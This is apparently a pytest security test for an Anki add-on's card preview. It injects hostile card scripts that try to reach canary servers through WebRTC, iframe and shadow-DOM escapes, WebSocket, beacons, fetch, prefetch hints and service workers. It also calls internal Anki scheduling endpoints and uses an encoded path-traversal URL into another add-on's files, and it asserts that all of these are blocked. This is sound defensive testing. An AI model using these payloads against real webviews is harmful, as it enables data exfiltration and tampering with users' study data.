"""Hostile cards in the preview, in a real Anki: no channel reaches a canary server,
no request reaches Anki's API or another add-on's files."""

import pytest
from canaries import Canaries

from anki_harness import pump, wait_until

STUN = "{{iceServers:[{{urls:'stun:{stun}'}}]}}"


def probes(c):
    stun = STUN.format(stun=c.stun.origin)
    rtc = "pc.createDataChannel('x');pc.createOffer().then(o=>pc.setLocalDescription(o));"
    http, hints = c.http.origin, c.hints.origin
    return [
        f"const pc=new RTCPeerConnection({stun});{rtc}",
        f"const f=document.createElement('iframe');document.body.append(f);const pc=new f.contentWindow.RTCPeerConnection({stun});{rtc}",
        f"const f=document.createElement('iframe');document.body.append(f);const pc=new window[window.length-1].RTCPeerConnection({stun});{rtc}",
        f"const h=document.createElement('div');document.body.append(h);h.attachShadow({{mode:'open'}}).innerHTML='<iframe></iframe>';const pc=new window[window.length-1].RTCPeerConnection({stun});{rtc}",
        f"new WebTransport('https://{c.quic.origin}/x').ready.catch(()=>{{}})",
        f"new WebSocket('ws://{http}/ws')",
        f"new EventSource('http://{http}/es')",
        f"navigator.sendBeacon('http://{http}/beacon','x')",
        f"fetch('http://{http}/fetch').catch(()=>{{}})",
        f"fetch('http://{c.same_host.origin}/fetch').catch(()=>{{}})",
        f"const x=new XMLHttpRequest();x.open('GET','http://{http}/xhr');x.send()",
        f"for (const rel of ['preconnect','dns-prefetch','prefetch','prerender']){{const l=document.createElement('link');l.rel=rel;l.href='http://{hints}/'+rel;document.head.append(l)}}",
        f"const d=document.createElement('div');d.innerHTML='<link rel=preconnect href=http://{hints}/html>';document.body.append(d)",
        f"const l=document.createElement('link');l.setAttribute('rel','preconnect');l.href='http://vm:{c.same_host.port}/';document.head.append(l)",
        "navigator.serviceWorker.register('sw.js').catch(()=>{})",
    ]


@pytest.fixture
def preview(mw, addon):

    view = addon.gui.preview_view.PreviewView("atd_under_test")
    view.resize(500, 400)
    view.show()
    yield view
    view.cleanup()
    view.close()
    view.deleteLater()
    pump(0.3)


def show(addon, view, html):
    services = __import__(addon.__name__ + ".services.preview.renderer", fromlist=["x"])
    rendered = services.RenderedCard(
        html=html,
        css="",
        body_class="card card1",
        html_class="",
        card_ord=0,
        note_id=None,
        is_sample=True,
        problem=False,
        options=services.PreviewOptions(),
    )
    seq = view.show_card(rendered)
    wait_until(lambda: view.last_painted >= seq, 20, "the card to be painted")


def test_no_channel_reaches_a_canary(mw, addon, preview):
    canaries = Canaries()
    try:
        html = "".join(f"<script>try{{{p}}}catch(e){{}}</script>" for p in probes(canaries))
        show(addon, preview, html)
        pump(3.0)  # bounded wait for STUN retries, QUIC and preconnects
        assert canaries.hits() == {}
    finally:
        canaries.close()


def test_anki_api_and_other_addons_are_unreachable(mw, addon, preview, monkeypatch):
    import aqt.mediasrv as mediasrv

    calls = []
    monkeypatch.setattr(mediasrv, "show_warning", lambda *a, **k: calls.append(a))
    port = mw.mediaServer.getPort()
    posts = "".join(
        f"<script>fetch('/_anki/{name}',{{method:'POST',headers:{{'Content-Type':'application/binary'}},body:''}}).catch(()=>{{}})</script>"
        for name in ["congratsInfo", "setSchedulingStates", "getSchedulingStatesWithContext"] * 3
    )
    leak = f"<img src='http://127.0.0.1:{port}/_addons/atd_under_test/web%2F..%2F..%2Fother%2Fmeta.json'>"
    before = len(preview.interceptor.blocked)
    show(addon, preview, posts + leak)
    wait_until(lambda: len(preview.interceptor.blocked) >= before + 10, 10, "the blocks")
    pump(0.5)
    assert calls == []
    blocked = preview.interceptor.blocked[before:]
    assert sum("/_anki/" in u for u in blocked) == 9
    assert any("%2F..%2F" in u for u in blocked)
